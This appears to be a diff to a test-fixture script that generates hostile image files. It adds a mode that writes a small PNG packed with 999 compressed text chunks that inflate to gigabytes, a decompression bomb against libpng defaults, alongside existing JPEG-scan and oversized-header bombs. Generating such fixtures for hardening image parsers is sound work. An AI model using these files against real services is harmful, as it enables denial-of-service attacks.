@@ -2,6 +2,7 @@
 
     python3 hostile_images.py scans OUT.jpg WIDTH HEIGHT SCANS    a progressive JPEG: one DC scan, then empty AC scans
     python3 hostile_images.py sizes FOLDER                        headers that claim 100,000 x 100,000 pixels, per format
+    python3 hostile_images.py texts OUT.png                       compressed texts beside 32 x 32 pixels
 """
 import struct
 import sys
@@ -62,7 +63,17 @@ def sizes(folder):
             f.write(data)
 
 
+def texts(path):
+    """999 texts of 8 MB each in 8 kB each: what libpng keeps by default."""
+    text = chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(7900000), 9))
+    rows = zlib.compress(b"".join(b"\0" + bytes(3 * 32) for _ in range(32)))
+    with open(path, "wb") as f:
+        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)) + text * 999 + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
+
+
 if sys.argv[1] == "scans":
     scans(sys.argv[2], *map(int, sys.argv[3:6]))
+elif sys.argv[1] == "texts":
+    texts(sys.argv[2])
 else:
     sizes(sys.argv[2])
